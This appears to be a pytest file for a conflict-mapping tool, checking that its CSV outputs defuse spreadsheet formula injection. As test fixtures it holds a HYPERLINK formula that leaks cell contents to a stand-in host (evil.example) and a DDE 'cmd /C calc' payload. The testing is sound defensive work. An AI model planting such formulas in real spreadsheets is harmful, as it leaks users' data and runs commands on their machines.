"""CSV outputs neutralise cells a spreadsheet would run as formulas, unless --raw-csv."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pandas as pd
import pytest

from geomap._csv import csv_text, neutralize_formulas, restore_formulas
from geomap.cli import main
from geomap.reports import read_reports

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_text_cells_starting_a_formula_get_an_apostrophe_numbers_do_not():
    frame = pd.DataFrame(
        {
            "note": ["=1+1", "+1", "-x", "@SUM(A1)", "\tcmd", "\rcmd", "plain", "a=b", None],
            "lat": [-1.5, 2, 3, 4, 5, 6, 7, 8, 9],
            "when": [dt.date(2021, 8, 12)] * 8 + ["-1"],
        }
    )
    out = neutralize_formulas(frame)
    assert out["note"].tolist()[:8] == ["'=1+1", "'+1", "'-x", "'@SUM(A1)", "'\tcmd", "'\rcmd", "plain", "a=b"]
    assert pd.isna(out["note"].iloc[8])
    assert out["lat"].tolist() == frame["lat"].tolist()
    assert out["when"].iloc[-1] == "'-1" and out["when"].iloc[0] == dt.date(2021, 8, 12)
    assert frame["note"].iloc[0] == "=1+1"  # the input is not changed
    assert neutralize_formulas(pd.DataFrame({"=x": [1]})).columns.tolist() == ["'=x"]


def test_raw_keeps_cells_and_restore_undoes_the_apostrophe():
    frame = pd.DataFrame({"note": [FORMULA, "'quoted'"]})
    assert rows(csv_text(frame, raw=True))[0]["note"] == FORMULA
    written = rows(csv_text(frame))
    assert written[0]["note"] == "'" + FORMULA
    assert [restore_formulas(r["note"]) for r in written] == [FORMULA, "'quoted'"]


@pytest.fixture
def hostile_reports(tmp_path):
    path = tmp_path / "reports.csv"
    text = (
        "date,place,status,source,note\n"
        f'2021-08-12,Ghazni,taliban,@cmd,"{FORMULA.replace(chr(34), chr(34) * 2)}"\n'
        "2021-08-12,=Nowhere,taliban,+src,-note\n"
    )
    path.write_text(text, encoding="utf-8")
    return path


def test_export_csv_and_unresolved_list_are_neutralised(hostile_reports, tmp_path, capsys):
    out, unresolved = tmp_path / "out.csv", tmp_path / "unresolved.csv"
    assert main(["export", str(hostile_reports), "-o", str(out), "--unresolved", str(unresolved)]) == 0
    ghazni = next(r for r in rows(out.read_text(encoding="utf-8")) if r["province_iso"] == "AF-GHA")
    assert ghazni["sources"] == "'@cmd"
    assert FORMULA.replace('"', '\\"') in ghazni["evidence"]  # inside JSON text, not at the start
    missing = rows(unresolved.read_text(encoding="utf-8"))
    assert (missing[0]["place"], missing[0]["source"]) == ("'=Nowhere", "'+src")


def test_raw_csv_writes_cells_as_they_are(hostile_reports, tmp_path, capsys):
    out, unresolved = tmp_path / "out.csv", tmp_path / "unresolved.csv"
    argv = ["export", str(hostile_reports), "-o", str(out), "--unresolved", str(unresolved), "--raw-csv"]
    assert main(argv) == 0
    ghazni = next(r for r in rows(out.read_text(encoding="utf-8")) if r["province_iso"] == "AF-GHA")
    assert ghazni["sources"] == "@cmd"
    assert rows(unresolved.read_text(encoding="utf-8"))[0]["place"] == "=Nowhere"


def test_neutralised_reports_read_back_unchanged(hostile_reports, tmp_path):
    original = read_reports(hostile_reports)
    copy = tmp_path / "copy.csv"
    copy.write_text(csv_text(pd.read_csv(hostile_reports, dtype=str, keep_default_na=False)), encoding="utf-8")
    assert "'=HYPERLINK" in copy.read_text(encoding="utf-8")
    again = read_reports(copy)
    pd.testing.assert_frame_equal(original, again)


def test_extract_and_geocode_csv_are_neutralised(tmp_path, capsys):
    article = tmp_path / "a.txt"
    article.write_text("The Taliban captured Ghazni on Thursday.", encoding="utf-8")
    assert main(["extract", str(article), "--published", "2021-08-13", "--source", FORMULA]) == 0
    extracted = rows(capsys.readouterr().out)
    assert extracted and extracted[0]["source"] == "'" + FORMULA
    assert main(["extract", str(article), "--published", "2021-08-13", "--source", FORMULA, "--raw-csv"]) == 0
    assert rows(capsys.readouterr().out)[0]["source"] == FORMULA
    assert main(["geocode", "=1+2", "Ghazni"]) == 0
    queries = [r["query"] for r in rows(capsys.readouterr().out)]
    assert queries == ["'=1+2", "Ghazni"]


def test_summary_csv_neutralises_scheme_labels(tmp_path, capsys):
    scheme = tmp_path / "scheme.json"
    scheme.write_text(
        '{"name": "s", "unknown": "unknown", "statuses": ['
        '{"key": "a", "label": "=cmd|\' /C calc\'!A0", "color": "#d7301f"},'
        '{"key": "unknown", "label": "No report", "color": "#d9d9d9"}]}',
        encoding="utf-8",
    )
    reports = tmp_path / "r.csv"
    reports.write_text("date,place,status\n2021-08-12,Ghazni,a\n", encoding="utf-8")
    assert main(["summary", str(reports), "--scheme", str(scheme), "--csv"]) == 0
    header = capsys.readouterr().out.splitlines()[0]
    assert header.split(",")[1].startswith("'=cmd")


def test_a_carriage_return_in_a_value_is_quoted_so_the_row_stays_whole():
    from geomap._csv import csv_text

    frame = pd.DataFrame({"query": ["Kab\rul", "Herat"], "n": [1, 2]})
    text = csv_text(frame)
    assert text == '"query","n"\n"Kab\rul","1"\n"Herat","2"\n'
    assert pd.read_csv(io.StringIO(text))["query"].tolist() == ["Kab\rul", "Herat"]
    assert csv_text(frame.iloc[[1]]) == "query,n\nHerat,2\n"  # no carriage return: quoted only where needed


def test_a_carriage_return_in_a_category_or_a_column_name_is_quoted_too():
    from geomap._csv import csv_text

    frame = pd.DataFrame({"a": pd.Series(["x\ry", "z"], dtype="category"), "b": [1, 2]})
    assert pd.read_csv(io.StringIO(csv_text(frame)))["a"].tolist() == ["x\ry", "z"]
    named = pd.DataFrame({"a\rb": ["z"]})
    assert pd.read_csv(io.StringIO(csv_text(named))).columns.tolist() == ["a\rb"]
